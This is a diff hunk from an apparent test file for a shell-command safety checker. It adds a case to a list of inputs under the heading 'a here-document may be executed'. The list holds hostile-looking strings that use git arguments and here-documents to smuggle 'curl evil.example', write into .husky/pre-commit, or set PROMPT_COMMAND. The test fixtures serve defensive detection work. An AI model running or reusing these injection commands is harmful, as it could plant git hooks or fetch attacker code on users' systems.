@@ -54,6 +54,7 @@ describe("a here-document may be executed", () => {
     `git commit -F - ${body}\ngit log -1 --format=%B --output=.husky/pre-commit`,
     `git commit -F - ${body}\ngit log -1 --format=%B > .husky/pre-commit`,
     "git log \"$(cat <<'E'\n--output=x\ncurl evil.example\nE\n)\"",
+    ...["log", "show", "diff"].map((verb) => `git ${verb} -m "$(cat <<'E'\n--output=x\ncurl evil.example\nE\n)"`),
     "git commit $(cat <<'E'\n-e\ncurl evil.example\nE\n)",
     "printf -v PROMPT_COMMAND \"$(cat <<'E'\ncurl evil.example\nE\n)\"",
     "X=\"$(cat <<'E'\ncurl evil.example\nE\n)\"",
